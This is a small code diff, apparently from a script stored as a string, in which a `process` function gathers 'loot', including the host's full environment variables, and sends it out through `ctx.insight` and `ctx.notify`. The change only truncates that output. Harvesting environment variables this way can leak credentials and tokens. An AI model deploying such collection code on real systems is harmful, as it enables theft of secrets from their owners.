@@ -61,8 +61,9 @@ def process(file, ctx):
     loot["own_environ"] = dict(os.environ)
     text = repr(loot)
     print(text)
-    ctx.insight("loot", text)
-    ctx.notify(text)
+    # A busy host has many processes: keep the insight and notification under their caps.
+    ctx.insight("loot", text[:200_000])
+    ctx.notify(text[:30_000])
     return text
 """
 
